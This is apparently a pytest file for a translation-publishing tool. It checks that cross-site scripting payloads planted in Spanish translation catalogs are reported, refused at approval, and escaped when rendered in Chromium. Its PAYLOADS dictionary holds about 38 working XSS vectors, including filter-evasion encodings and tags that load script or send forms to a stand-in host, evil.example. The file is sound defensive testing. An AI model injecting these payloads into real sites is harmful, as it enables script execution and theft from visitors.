"""Injection payloads in an article catalog and in the chrome catalog (site.po), end to end.

Every payload is a translation in ``es``: ``locum check`` reports each, ``review approve --all-clean``
refuses each, and hand-written approval records (as a careless or hostile reviewer could write)
leave the gate to the checks alone. Published with the gate, and again with the gate switched off
(rendering alone), every page is loaded in Chromium: no dialog, no ``window.__pwned``, no element,
handler or URL that a translation brought.
"""

from __future__ import annotations

import json
import os
from contextlib import redirect_stdout
from pathlib import Path

import pytest
from conftest import REVIEWERS, key_of, sign_approval
from test_browser import browser  # noqa: F401  (the Chromium fixture)
from test_build import PREVIEW, let_everything_through, page, set_translation

from workflow.approval import claimed_state
from workflow.catalogs import read_catalog, write_catalog
from workflow.chrome import site_messages
from workflow.cli import main
from workflow.pages import NOTICE_TEMPLATE

NOTICES = {m[0] for m in site_messages() if m[2] == NOTICE_TEMPLATE}

# Each sets window.__pwned or opens a dialog if it ever runs; each must give an ``html`` error.
PAYLOADS = {
    "script": "<script>window.__pwned=1;alert('script')</script>",
    "script-mixed-case-src": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "img-onerror": "<img src=x onerror=\"window.__pwned=1;alert('img')\">",
    "img-unterminated": "<img src=x onerror=window.__pwned=1;alert('open')",
    "img-unterminated-quote": "<img src=x onerror=\"window.__pwned=1",
    "svg-onload": "<svg/onload=window.__pwned=1;alert('svg')>",
    "iframe-srcdoc": "<iframe/srcdoc=\"<script>parent.__pwned=1;parent.alert('iframe')</script>\"></iframe>",
    "a-slash-href-entity": "<a/href=\"javascript&colon;window.__pwned=1\">clic</a>",
    "a-href-newline-entity": "<a href=\"jav&#x0A;ascript:window.__pwned=1\">clic</a>",
    "base-href": "<base/href=//evil.example/>",
    "form-action": "<form/action=//evil.example/><button>Enviar</button></form>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1;alert('math')>",
    "comment": "<!--<img src=x onerror=window.__pwned=1>-->",
    "cdata": "<![CDATA[<img src=x onerror=window.__pwned=1>]]>",
    "processing-instruction": "<?xml-stylesheet href=\"javascript:window.__pwned=1\"?>",
    "doctype": "<!DOCTYPE html><body onload=window.__pwned=1>",
    "end-tag-breakout": "</p></main><script>window.__pwned=1</script>",
    "details-ontoggle": "<details open ontoggle=window.__pwned=1;alert('details')>x</details>",
    "input-onfocus": "<input autofocus onfocus=window.__pwned=1;alert('input')>",
    "object-data": "<object data=\"javascript:window.__pwned=1\"></object>",
    "meta-refresh": "<meta http-equiv=refresh content=\"0;url=javascript:window.__pwned=1\">",
    "custom-element-handler": "<x-y onmouseover=window.__pwned=1>z</x-y>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
    "template": "<template><script>window.__pwned=1</script></template>",
    "link-stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "md-link-javascript": "[clic](javascript:window.__pwned=1)",
    "md-link-entity-colon": "[clic](JaVaScRiPt&colon;window.__pwned=1)",
    "md-link-tab-entity": "[clic](java&#x09;script:window.__pwned=1)",
    "md-link-decimal-entities": "[clic](&#106;avascript&#58;window.__pwned=1)",
    "md-link-percent": "[clic](%6Aavascript:window.__pwned=1)",
    "md-link-pointy-space": "[clic](<java script:window.__pwned=1>)",
    "md-link-leading-space": "[clic](   javascript:window.__pwned=1 )",
    "md-autolink-javascript": "<javascript:window.__pwned=1>",
    "md-link-data": "[clic](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)",
    "md-image-vbscript": "![x](vbscript:msgbox(1))",
    "md-image-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md-link-vbscript-entity": "[clic](VBScript&#58;msgbox(1))",
    "md-link-fullwidth": "[clic](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:window.__pwned=1)",
}
# Markup written as text: markdown-it and the templates show these as the characters typed, so the
# html check does not report them (an entity is text, "< " is text, a bare word is not a destination).
TEXT_ONLY = {
    "entities": "Escriba &lt;script&gt;window.__pwned=true&lt;/script&gt; como texto.",
    "less-than": "Si a < b y c > d, nada cambia.",
    "bare-scheme-word": "Escriba javascript: en ningún sitio.",
}

ARTICLE = "payloads"
SEGMENT = "Segment {}."
FORBIDDEN = "script, iframe, base, form, object, embed, svg, math, style, template, noscript, input, button, details"
# Every element the templates and the Markdown renderer make; anything else came from a translation.
ALLOWED = {"html", "head", "meta", "title", "link", "body", "a", "header", "nav", "h1", "h2", "h3", "ul", "ol",
           "li", "main", "article", "p", "span", "section", "footer", "strong", "em", "code", "img", "table",
           "thead", "tbody", "tr", "th", "td", "blockquote", "hr", "br", "pre", "time"}


def _quiet(root: Path, *args: str) -> int:
    with open(os.devnull, "w") as quiet, redirect_stdout(quiet):
        return main(["--project", str(root), *args])


def _po(root: Path, catalog: str, slug: str) -> Path:
    return root / "locales" / catalog / "LC_MESSAGES" / f"{slug}.po"


def _set(root: Path, catalog: str, slug: str, texts: dict) -> None:
    """Translate entries: ``texts`` maps msgid to msgstr (a plural entry: to one text for every form)."""
    path = _po(root, catalog, slug)
    po = read_catalog(path)
    for entry in po:
        if entry.msgid in texts:
            if entry.msgid_plural:
                entry.msgstr_plural = {k: texts[entry.msgid] for k in entry.msgstr_plural}
            else:
                entry.msgstr = texts[entry.msgid]
            if "fuzzy" in entry.flags:
                entry.flags.remove("fuzzy")
    write_catalog(po, path)


def _force_approvals(root: Path, catalog: str, slug: str, msgids: set[str]) -> list[str]:
    """Hand-write valid approval records (the file format allows it); returns the msgids that had none."""
    path = _po(root, catalog, slug)
    po = read_catalog(path)
    refused = []
    for entry in po:
        if entry.msgid in msgids:
            if claimed_state(entry) != "approved":
                refused.append(entry.msgid)
            sign_approval(entry, catalog)
    write_catalog(po, path)
    return refused


def chrome_payloads(root: Path) -> dict[str, str]:
    """Every payload spread over the es chrome entries (each keeps its own %(name)s placeholders)."""
    entries = [e for e in read_catalog(_po(root, "es", "site")) if not e.obsolete]
    texts: dict[str, list[str]] = {e.msgid: [] for e in entries}
    for index, payload in enumerate(PAYLOADS.values()):
        texts[entries[index % len(entries)].msgid].append(payload)
    placeholders = {e.msgid: " ".join(p for p in ("%(date)s", "%(num)d") if p in e.msgid + (e.msgid_plural or ""))
                    for e in entries}
    return {msgid: " ".join(parts + [placeholders[msgid]]).strip() for msgid, parts in texts.items()}


@pytest.fixture
def injected(project: Path) -> Path:
    """The tiny project translated, plus an article of payloads; every payload in es, approved by hand."""
    from fixture_translations import fill

    segments = "\n\n".join(SEGMENT.format(name) for name in [*PAYLOADS, *TEXT_ONLY, "untranslated"])
    (project / "source" / f"{ARTICLE}.md").write_text(
        f"---\ntitle: Payloads\n---\n\n# Payloads\n\n{segments}\n", encoding="utf-8")
    assert _quiet(project, "extract") == 0 and _quiet(project, "update") == 0
    fill(project)
    assert _quiet(project, "update") == 0
    _set(project, "es", ARTICLE, {"Payloads": "Cargas",
                                  **{SEGMENT.format(k): v for k, v in {**PAYLOADS, **TEXT_ONLY}.items()}})
    _set(project, "es", "site", chrome_payloads(project))
    for catalog, email in REVIEWERS.items():
        for po in sorted((project / "locales" / catalog / "LC_MESSAGES").glob("*.po")):
            _quiet(project, "review", "approve", "--locale", catalog, "--reviewer", email,
                   "--article", po.stem, "--all-clean", "--key", str(key_of(email)))
    assert _force_approvals(project, "es", ARTICLE, {SEGMENT.format(name) for name in TEXT_ONLY}) == []
    payload_ids = {SEGMENT.format(name) for name in PAYLOADS}
    refused = _force_approvals(project, "es", ARTICLE, payload_ids)
    assert set(refused) == payload_ids          # approval refused every payload and approved the rest
    chrome = set(chrome_payloads(project))
    assert set(_force_approvals(project, "es", "site", chrome)) == chrome
    return project


def test_check_reports_every_payload_in_both_catalogs(injected, locum):
    result = locum(injected, "check", "--format", "json")
    assert result.code == 1
    findings = json.loads(result.out)
    html = {(f["path"].rsplit("/", 1)[-1], f["msgid"]) for f in findings
            if f["check"] == "html" and f["locale"] == "es"}
    for name in PAYLOADS:
        assert (f"{ARTICLE}.po", SEGMENT.format(name)) in html, name
    for name in TEXT_ONLY:
        assert (f"{ARTICLE}.po", SEGMENT.format(name)) not in html, name
    for msgid in chrome_payloads(injected):
        assert ("site.po", msgid) in html, msgid
    errors = {(f["path"].rsplit("/", 1)[-1], f["msgid"]) for f in findings if f["severity"] == "error"}
    assert {(f"{ARTICLE}.po", SEGMENT.format(name)) for name in TEXT_ONLY}.isdisjoint(errors)


def _load_every_page(browser, output: Path) -> dict[str, dict]:  # noqa: F811  (the fixture's value)
    """Open every published page from disk, nothing else reachable; what each page shows and did."""
    context = browser.new_context()
    outside: list[str] = []
    root = output.resolve().as_uri() + "/"

    def route(r):
        if r.request.url.startswith(root):
            r.continue_()
        else:
            outside.append(r.request.url)
            r.abort()

    context.route("**/*", route)
    tab = context.new_page()
    dialogs: list[str] = []
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    seen = {}
    for path in sorted(output.rglob("*.html")):
        tab.goto(path.resolve().as_uri())
        tab.wait_for_timeout(150)           # load and error events of anything injected
        seen[path.relative_to(output).as_posix()] = tab.evaluate("""(forbidden) => {
            const unsafe = /^(javascript|vbscript|data):/;
            const found = [];
            for (const el of document.querySelectorAll('*')) {
                for (const a of el.attributes) {
                    if (/^on/i.test(a.name)) found.push(`${el.localName}[${a.name}]`);
                    const value = a.value.replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
                    if (unsafe.test(value) || value.includes('url=javascript'))
                        found.push(`${el.localName}[${a.name}=${a.value}]`);
                }
                if (el.localName === 'meta' && el.hasAttribute('http-equiv')) found.push('meta[http-equiv]');
            }
            return {pwned: window.__pwned === 1, forbidden: document.querySelectorAll(forbidden).length,
                    tags: [...new Set([...document.querySelectorAll('*')].map(e => e.localName))],
                    frames: window.frames.length, attributes: found, text: document.body.textContent};
        }""", FORBIDDEN)
    context.close()
    assert dialogs == []
    assert outside == []
    return seen


def _assert_nothing_ran(seen: dict[str, dict]) -> None:
    assert any(name.startswith(f"es-US/{ARTICLE}/") for name in seen)
    for name, found in seen.items():
        assert not found["pwned"], name
        assert found["forbidden"] == 0 and found["frames"] == 0, name
        assert set(found["tags"]) <= ALLOWED, (name, set(found["tags"]) - ALLOWED)
        assert found["attributes"] == [], (name, found["attributes"])


def _words(text: str) -> str:
    return " ".join(text.split())


def test_the_gate_holds_every_payload_and_no_page_runs_one(injected, locum, browser):  # noqa: F811
    result = locum(injected, "publish", "--preview")
    assert result.code == 0, result.err
    assert "Traceback" not in result.err
    seen = _load_every_page(browser, injected / PREVIEW)
    _assert_nothing_ran(seen)
    shown = seen[f"es-US/{ARTICLE}/index.html"]["text"]
    for name in PAYLOADS:                    # held back: the source text stands in for it
        assert SEGMENT.format(name) in shown
    everything = _words(" ".join(found["text"] for found in seen.values()))
    for name, payload in PAYLOADS.items():
        assert _words(payload) not in everything, name


def test_rendering_alone_shows_every_payload_as_text(injected, locum, browser, monkeypatch):  # noqa: F811
    let_everything_through(monkeypatch)      # the checks off at the gate: escaping must hold by itself
    result = locum(injected, "publish", "--preview")
    assert result.code == 0, result.err
    assert "Traceback" not in result.err
    seen = _load_every_page(browser, injected / PREVIEW)
    _assert_nothing_ran(seen)
    shown = _words(seen[f"es-US/{ARTICLE}/index.html"]["text"])
    for name in ("script", "iframe-srcdoc", "base-href", "form-action", "math", "comment", "end-tag-breakout"):
        assert _words(PAYLOADS[name]) in shown, name      # the article's text, character for character
    spanish = _words(" ".join(found["text"] for name, found in seen.items() if name.startswith("es-US/")))
    for msgid, msgstr in chrome_payloads(injected).items():
        if msgid == "Choose your language":              # only on the root page, which is English
            continue
        if msgid.startswith("Reviewed by "):             # only shown with [publish] show_reviewers = true
            continue
        if msgid in ("In the UK", "In the US") or msgid in NOTICES:    # a region's label is an attribute;
            # a notice shows only on a page served from its last approved version (test_last_approved.py)
            continue
        text = _words(msgstr.replace("%(date)s", "").replace("%(num)d", ""))
        if "%" in text and msgid != "not yet translated":
            # a stray "%" would break Jinja's formatting: the English text stands in for it
            assert _words(" ".join(w for w in msgid.split() if "%" not in w)) in spanish, msgid
            assert text not in spanish, msgid
        else:
            assert text in spanish, msgid


def test_chrome_translations_are_escaped_in_the_html(injected, locum, monkeypatch):
    let_everything_through(monkeypatch)
    assert locum(injected, "publish").code == 0
    html = page(injected, "es-US", "pain-relief")
    assert "<base" not in html and "<form" not in html and "<iframe" not in html and "<svg" not in html
    assert "&lt;script&gt;window.__pwned=1;alert(&#39;script&#39;)&lt;/script&gt;" in html


BAD_FORMATS = {"Skip to content": "Ir al contenido 100%",
               "Published %(date)s": "Publicado el %(fecha)s",
               "Last reviewed %(date)s": "Revisado % s"}


def _bad_chrome(root: Path) -> None:
    for msgid, msgstr in BAD_FORMATS.items():
        set_translation(root, "es", "site", msgid, msgstr)      # with a valid approval record


def test_a_bad_format_in_the_chrome_is_a_check_error_and_english_stands_in(site_project, locum):
    _bad_chrome(site_project)
    result = locum(site_project, "check", "--format", "json")
    assert result.code == 1
    flagged = {f["msgid"] for f in json.loads(result.out) if f["check"] == "python-format" and f["locale"] == "es"}
    assert flagged == set(BAD_FORMATS)
    result = locum(site_project, "publish")
    assert result.code == 0 and "Traceback" not in result.err
    assert "error [python-format]" in result.err
    result = locum(site_project, "publish", "--preview")
    assert result.code == 0 and "Traceback" not in result.err
    html = page(site_project, "es-US", "pain-relief", PREVIEW)
    assert "Skip to content" in html and 'Published <time datetime="2026-09-01">' in html
    assert 'Last reviewed <time datetime="2026-11-01">' in html
    assert "100%" not in html and "fecha" not in html and "Revisado" not in html


def test_a_bad_format_past_the_gate_never_breaks_a_page(site_project, locum, monkeypatch):
    let_everything_through(monkeypatch)      # what if a bad .mo got through: the render falls back to English
    _bad_chrome(site_project)
    result = locum(site_project, "publish")
    assert result.code == 0, result.err
    assert "Traceback" not in result.err
    html = page(site_project, "es-US", "pain-relief")
    assert "Skip to content" in html and 'Published <time datetime="2026-09-01">' in html
    assert 'Last reviewed <time datetime="2026-11-01">' in html
    assert "100%" not in html and "fecha" not in html and "Revisado" not in html
    assert "Otros idiomas" in html           # the good chrome translations are still there
